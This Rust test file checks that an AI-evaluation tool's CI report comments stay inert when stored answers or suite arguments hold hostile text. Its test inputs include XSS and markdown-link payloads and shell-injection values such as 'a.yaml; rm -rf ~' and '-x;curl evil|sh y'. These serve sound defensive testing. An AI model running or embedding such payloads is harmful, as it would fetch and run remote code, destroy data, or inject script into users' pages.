use crate::gate::Policy;
use crate::history::StoredRun;
use crate::report::fixture::{Fixture, HOSTILE, case, trial, verdict};
use crate::report::{Links, Past};
use crate::vocabulary::{Outcome, VerdictKind};

use super::*;

/// Tags in the text, except those that akit writes itself.
fn strange_tags(text: &str) -> Vec<&str> {
    let own = ["details", "summary", "code", "blockquote", "br", "del", "strong"];
    text.match_indices('<')
        .map(|(at, _)| &text[at + 1..])
        .filter(|rest| {
            let name = rest.split('>').next().unwrap_or_default();
            !own.contains(&name.trim_start_matches('/'))
        })
        .collect()
}

/// Asserts what must be true for all foreign text in a comment.
fn check_inert(text: &str) {
    assert_eq!(strange_tags(text), Vec::<&str>::new());
    for tag in ["details", "blockquote", "code", "del", "strong"] {
        let [opened, closed] =
            [format!("<{tag}>"), format!("</{tag}>")].map(|tag| text.matches(&tag).count());
        assert_eq!(opened, closed, "{tag}");
    }
    // akit's own commands are blocks to copy.
    for line in text.lines().filter(|line| !matches!(*line, "  ```sh" | "  ```")) {
        let start = line.trim_start();
        assert!(!start.starts_with(['/', ':', '`', '~', '@']), "{line}");
    }
}

/// The addresses of all links.
fn addresses(text: &str) -> Vec<&str> {
    text.split("](").skip(1).map(|rest| rest.split(')').next().unwrap()).collect()
}

/// The same fixture in a pipeline, with an earlier answer for each case.
fn in_pipeline(mut fixture: Fixture, before: &str) -> Fixture {
    let web = "https://git.example/acme/shop";
    fixture.links = Links {
        run: Some(format!("{web}/actions/runs/9")),
        page: Some("https://ci.example/akit.html".to_owned()),
        commit: Some(format!("{web}/commit/0123456789abcdef")),
        files: Some(format!("{web}/blob/0123456789abcdef")),
        docs: Some("https://git.example/akit/docs".to_owned()),
        ..Links::default()
    };
    let mut run = fixture.run.clone();
    (run.run_id, run.at) = ("earlier".to_owned(), Some("2025-01-02T03:04:05Z".to_owned()));
    for case in &mut run.cases {
        case.outcome = Outcome::Passed;
        let answers = case.trials.iter_mut().filter_map(crate::manifest::Trial::answer_mut);
        answers.for_each(|answer| answer.text = before.to_owned());
    }
    let stored = StoredRun { file: "x.json".to_owned(), run, conclusion: None, pass_rate: None };
    fixture.past = Past::of(&fixture.run, &fixture.decision, [stored]);
    fixture
}

#[test]
fn hostile_text_stays_text() {
    check_inert(&of_report(&Fixture::new().report()));
    check_inert(&of_report(&in_pipeline(Fixture::new(), HOSTILE).report()));
    for hostile in [
        "`a` ``b`` ```",
        "```\n</pre></details>\n```",
        "@team @octocat fixes #1 GH-2 !3 ~4",
        "<b>x</b><img src=x onerror=alert(1)><!-- akit:v1 key=default -->",
        "[l](javascript:alert(1)) ![i](https://evil.example/a.png)](https://evil.example)",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "/close\n::error::x\n##vso[x]",
        "https://evil.example www.evil.example a@evil.example",
        &"x".repeat(100_000),
    ] {
        let mut bad = verdict(VerdictKind::Contains, hostile);
        (bad.expected, bad.got) = (hostile.to_owned(), hostile.to_owned());
        let trials = vec![trial(0, Outcome::Failed, Some(bad), hostile)];
        let one = case("support", hostile, Outcome::Failed, trials);
        for before in ["fine", hostile, &format!("{hostile} and more")] {
            let fixture = in_pipeline(Fixture::of(vec![one.clone()], &Policy::default()), before);
            let text = posted(&fixture.report(), MOST);
            check_inert(&text);
            for raw in
                ["@team", "@octocat", "#1 ", "!3", "://evil", "www.evil", "a@evil", "<!--", "![", "| a |"]
            {
                assert!(!text.contains(raw), "{raw} in {text}");
            }
            assert!(
                addresses(&text)
                    .iter()
                    .all(|one| one.starts_with("https://git.example/")
                        || one.starts_with("https://ci.example/")),
                "{text}"
            );
            assert!(text.len() < 20_000, "{}", text.len());
        }
    }
}

#[test]
fn every_line_has_a_link_and_every_link_is_well_formed() {
    let text = of_report(&in_pipeline(Fixture::short(), "Within 30 days.").report());
    let found = addresses(&text);
    assert!(found.iter().all(|one| Links::address(one).as_deref() == Some(one)), "{found:?}");
    let counts = "2 passed, 8 failed (1 as in the baseline, 1 flaky, 1 cleared), 2 errored, 1 skipped · pass rate 23.3%";
    let web = "https://git.example/acme/shop";
    let line = format!(
        "{counts} · [run]({web}/actions/runs/9) · [page](https://ci.example/akit.html) · \
         [commit <code>0123456</code>]({web}/commit/0123456789abcdef)"
    );
    assert!(text.lines().any(|one| one == line), "{text}");
    for at in text.lines().filter(|line| line.starts_with("- at: ")) {
        assert!(at.contains(&format!("]({web}/blob/0123456789abcdef/evals/")) && at.contains("#L"), "{at}");
    }
    let docs = found.iter().filter_map(|one| one.strip_prefix("https://git.example/akit/"));
    assert_eq!(docs.collect::<Vec<_>>(), ["docs/findings.md"]);
    let alone = of_report(&Fixture::short().report());
    assert_eq!(addresses(&alone), Vec::<&str>::new(), "nothing to link to outside of a pipeline");
}

#[test]
fn regressions_come_right_after_the_decision_and_no_row_is_empty() {
    let text = of_report(&in_pipeline(Fixture::short(), "Within 30 days.").report());
    let lines: Vec<&str> = text.lines().collect();
    assert!(lines[0].starts_with("### ❌ akit: FAIL — "), "{}", lines[0]);
    assert_eq!((lines[1], lines[2]), ("", "**Broken since the baseline**"));
    assert!(lines[3].starts_with("- [<code>support/broken</code>](https://git.example/"), "{}", lines[3]);
    let rows: Vec<_> = lines.iter().filter(|line| line.starts_with("| ")).collect();
    assert_eq!(
        rows,
        [
            &"| | now | baseline | change |",
            &"| pass rate of the compared cases | 40.0% | 60.0% | −20.0 points |"
        ]
    );
    for line in lines {
        let value = line.split_once(": ").map_or(line, |(_, value)| value);
        assert!(!value.trim().is_empty() || line.trim().is_empty(), "{line:?}");
        assert!(!line.contains("| — |") && !line.contains("|  |"), "{line:?}");
    }
}

#[test]
fn a_command_to_copy_runs_nothing_from_a_stored_run() {
    let suite = |words: &[&str]| {
        let mut fixture = Fixture::short();
        fixture.run.cases.retain(|case| case.id == "broken");
        fixture.run.suite = words.iter().map(|word| (*word).to_owned()).collect();
        of_report(&fixture.report())
    };
    let usual = suite(&["my bot/a.yaml", "-t release gate", "--case x"]);
    assert!(usual.contains("akit run 'my bot/a.yaml' -t 'release gate' --case x"), "{usual}");
    for word in ["$(id)", "a.yaml; rm -rf ~", "a\"`id`"] {
        let page = suite(&[word]);
        let command = page.split("\n  akit run ").nth(1).unwrap();
        assert!(command.starts_with('\''), "{command}");
    }
    // What a shell or akit would read as something else is not printed at all.
    let long = "a".repeat(300);
    for word in
        ["-x;curl evil|sh y", "--json .bashrc", "--case$(id) y", "a\n```\nb", "a\u{202e}b", "a<b", &long]
    {
        assert!(!suite(&[word]).contains("akit run"), "{word}");
    }
}

#[test]
fn an_answer_is_shown_next_to_the_one_before() {
    let shown = |now: &str, before: &str| {
        let trials = vec![trial(0, Outcome::Failed, Some(verdict(VerdictKind::Contains, "no")), now)];
        let one = case("support", "a", Outcome::Failed, trials);
        let text = of_report(&in_pipeline(Fixture::of(vec![one], &Policy::default()), before).report());
        let from = text.find("Before (").or(text.find("The same answer")).unwrap();
        text[from..].split("\n\n</details>").next().unwrap().to_owned()
    };
    insta::assert_snapshot!(shown("You get it within 5 working days.", "You get it within 30 days."), @r"
    Before (passed, 2025-01-02):

    <blockquote>You get it within <del>30</del> days.</blockquote>

    Now:

    <blockquote>You get it within <strong>5 working</strong> days.</blockquote>
    ");
    insta::assert_snapshot!(shown("Never.", "Never."), @r"
    The same answer as before (passed, 2025-01-02):

    <blockquote>Never.</blockquote>
    ");
    let long = "All of it is as it was before. ".repeat(40);
    let found = shown(&format!("{long}Never."), &format!("{long}Soon."));
    assert!(found.contains("<del>Soon</del>") && found.contains("<strong>Never</strong>"), "{found}");
    assert!(found.len() < 1_000 && found.contains(" … "), "{found}");
}

#[test]
fn many_failures_fit_by_leaving_out_whole_entries() {
    let mut bad = verdict(VerdictKind::Contains, HOSTILE);
    bad.got = HOSTILE.to_owned();
    let one = case("support", HOSTILE, Outcome::Failed, vec![trial(0, Outcome::Failed, Some(bad), HOSTILE)]);
    let fixture = Fixture::of(vec![one; 2_000], &Policy::default());
    let text = of_report(&fixture.report());
    assert!(text.len() <= MOST && text.len() > MOST / 2, "{}", text.len());
    assert_eq!(text.matches("<details>").count(), text.matches("</details>").count());
    let shown = text.matches("<details>").count();
    let said = format!("Omitted for length: {} failed cases.", number::size(2_000 - shown));
    assert!(text.contains(&said), "{said} {}", text.lines().last().unwrap());
    assert!(text.contains("#### About this run"), "facts matter more than one more case");
}

#[test]
fn a_passing_run_is_two_lines_and_facts() {
    let fixture = Fixture::of(vec![case("support", "a", Outcome::Passed, Vec::new())], &Policy::default());
    insta::assert_snapshot!(of_report(&fixture.report()), @r"
    ### ✅ akit: PASS — all 1 judged case passed

    1 passed · pass rate 100.0%

    #### About this run
    - application: openai gpt-4o at api.openai.com
    - judge: openai gpt-4o-mini at api.openai.com
    - usage: 1.24 s
    - note: 1 of 1 passed; with so few cases the true failure rate could still be up to 95% (95% confidence)
    - note: api.openai.com refused <code>seed</code>; asked without it
    ");
}
